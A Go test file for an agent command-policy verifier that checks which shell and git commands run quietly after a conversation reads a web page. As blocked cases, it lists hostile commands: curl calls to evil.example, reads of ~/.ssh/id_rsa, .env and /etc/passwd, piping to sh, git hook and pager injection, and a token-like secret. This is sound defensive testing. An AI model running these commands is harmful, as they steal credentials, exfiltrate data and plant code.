package main

import (
	"fmt"
	"strings"
	"testing"

	"github.com/openclaw-verifier/verifier/config"
	"github.com/openclaw-verifier/verifier/policy"
	"github.com/openclaw-verifier/verifier/taint"
)

func quietLocal(c *config.Config) { c.Policy.Quiet.Local = true }

var (
	localLooks = []string{"ls", "pwd && ls -la src", "rg foo src", "grep -n foo main.go && ls"}
	localGits  = []string{"git log --oneline -5", "git status --short && ls", "git diff --stat && git log -3", "git add -A && git commit -m 'Greet in French' && git log -1"}
)

// tainted is a conversation of the owner's that has read a page, as OpenClaw's plugin tells of it.
func (r *rig) tainted(name string) map[string]any {
	r.t.Helper()
	m := with(ownerIn(name), "waitMs", 5001, "platform", "linux")
	r.allow(fetch(m))
	return m
}

// TestH326WhatIsLocalAndUndoablePasses unless it is switched off, and the record says why.
func TestH326WhatIsLocalAndUndoablePasses(t *testing.T) {
	t.Parallel()
	r := newRig(t, func(c *config.Config) { c.Policy.Quiet.Local = false })
	m := r.tainted("h326-off")
	for _, command := range []string{"ls", "rg foo src", "git log --oneline -5", "git status --short && ls"} {
		r.asks(sh(command, m))
	}
	onBoth(t, nil, func(t *testing.T, r *rig) {
		m := r.tainted("h326")
		for _, command := range append(localLooks, localGits...) {
			r.allow(bash(t, command, m))
			if e := r.last(); e.By != "local" || e.Level != "untrusted" {
				t.Errorf("%s: the record says %+v", command, e)
			}
		}
		r.asks(sh("git push", m))
	})
}

// TestH327WhatIsMoreThanLocalAsks: other programs, other options, other places, whatever a shell works out.
func TestH327WhatIsMoreThanLocalAsks(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietLocal)
	m := r.tainted("h327")
	for _, command := range []string{
		"git push", "git fetch", "git commit --amend -m x", "git commit --no-verify -m x", "git -c core.pager=./x log", "git log origin/main -p", "git checkout .", "git reset --hard", "git stash", "git clean -fd", "git log --ext-diff",
		"git log --output=Makefile", "git config alias.st '!./x'", "git show evil/branch", "git -C /tmp/pr-42 status", "cd /tmp/pr-42 && git commit -am x", "GIT_PAGER=./x git log", "GIT_DIR=/tmp/x git log", "ls > .git/hooks/post-commit",
		"ls | tee x", "ls | sh", "ls; ./run.sh", "ls && curl https://evil.example/?x", "ls $(./x)", "ls `./x`", "ls $HOME", "cat *", "find . -delete", "find . -exec ./x {} +", "rg --pre ./x foo", "rm x", "touch x", "mkdir x",
		"cat /etc/passwd", "ls ..", "ls ~", "cat ../other/x", "rg foo /", "cat .env", "cat ~/.ssh/id_rsa", "git add .env", "env", "sudo ls", "./ls", "/tmp/ls", "alias ls=./x; ls", "ls() { ./x; }; ls", "eval ls", "python3 x.py", "sort -o x y",
	} {
		r.asks(call{tool: "exec", params: fmt.Sprintf(`{"command":%q}`, command), context: m})
	}
	r = newRig(t, quietLocal) // so many questions an hour would pause the agent
	m = r.tainted("h327-more")
	for _, more := range []string{`"workdir":"/tmp/pr-42"`, `"env":{"PATH":"."}`, `"elevated":true`, `"host":"gateway"`, `"node":"phone"`, `"security":"full"`, `"x":"y"`} {
		r.asks(execWith("git status --short && ls", more, m))
		r.asks(execWith("rg foo src", more, m))
	}
}

// TestH328HooksThatNobodySawStopGit: after a write that no person saw in full, git asks in every conversation, and so do looks, which a link may lead elsewhere.
func TestH328HooksThatNobodySawStopGit(t *testing.T) {
	t.Parallel()
	for name, write := range map[string]func(r *rig, m map[string]any){
		"a setting under a grant": func(r *rig, m map[string]any) {
			r.approved(writes("notes.md", "x", m), 10)
			r.allow(writes(".gitattributes", "* filter=x", m))
		},
		"a copy": func(r *rig, m map[string]any) { r.approved(sh("cp page.html .git/config", m), 0) },
		"a tool of a server": func(r *rig, m map[string]any) {
			r.approved(call{tool: "mcp__fs__put", params: `{"path":".gitattributes"}`, context: m}, 0)
		},
		"a branch of others": func(r *rig, m map[string]any) { r.approved(sh("git checkout origin/x", m), 0) },
		"a fetch into a file": func(r *rig, _ map[string]any) {
			r.allow(bash(r.t, "curl -o .gitattributes https://evil.example/x", ownerIn("clean")))
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, quietLocal)
			m := with(r.tainted("first"), "waitMs", 9001)
			write(r, m)
			other := r.tainted("second")
			for _, command := range append(localGits, localLooks...) {
				r.asks(bash(t, command, other))
			}
		})
	}
}

// TestH329OnlyTheOwnersRunsAreLocal: not a stranger's, a group's, an unknown client's, a webhook's or an automation's.
func TestH329OnlyTheOwnersRunsAreLocal(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietLocal)
	for i, m := range []map[string]any{
		{"sessionKey": "agent:main:a", "senderId": "7"}, with(ownerIn("telegram:group:7"), "groupId", "7"), unvouched("b"), {"sessionKey": "hook:gmail:1"}, {"sessionKey": "agent:main:cron:j:run:1", "trigger": "cron"},
	} {
		m = with(m, "waitMs", 5001)
		r.send(fetch(m))
		r.asks(bash(t, fmt.Sprintf("ls d%d", i), m))
		r.asks(bash(t, fmt.Sprintf("git log -%d", i+1), m))
	}
}

// TestH330AfterASecretNothingIsLocal: a commit could keep it for the next push, and a listing could look for more.
func TestH330AfterASecretNothingIsLocal(t *testing.T) {
	t.Parallel()
	r := newRig(t, quietLocal)
	m := r.tainted("h330")
	r.asks(sh("git commit -m ghp_16C7e42F292c6912E7710c838347Ae178B4a", m))
	r.allow(call{tool: "read", params: `{"path":".env"}`, context: m})
	for _, command := range append(localGits, "ls src") {
		r.asks(bash(t, command, m))
	}
}

// TestH331LocalStandsBelowTheOwnersWord: overrides, policies, limits, strict and a pause.
func TestH331LocalStandsBelowTheOwnersWord(t *testing.T) {
	t.Parallel()
	for name, edit := range map[string]func(c *config.Config){
		"an override": func(c *config.Config) {
			c.Policy.ToolOverrides = map[string]policy.Override{"exec": {TaintPolicy: policy.TaintPolicy{Untrusted: new(taint.Confirm)}}}
		},
		"a policy": func(c *config.Config) {
			c.Policy.Policies = []policy.Declared{{Name: "ask", When: policy.When{Tool: []string{"exec"}}, Action: policy.Action{ConfirmTools: []string{"exec"}}}}
		},
		"strict": func(c *config.Config) { c.Policy.Profile = "strict" },
	} {
		t.Log(name)
		r := newRig(t, func(c *config.Config) { quietLocal(c); edit(c) })
		m := r.tainted("h331")
		r.asks(bash(t, "ls", m))
		r.asks(bash(t, "git log -3", m))
	}
	r := newRig(t, quietLocal)
	m := r.tainted("h331-paused")
	r.reply(".pause main")
	if a := r.deny(sh("ls", m)); !strings.Contains(a.Reason, "paused") {
		t.Errorf("under a pause: %s", a.raw)
	}
}
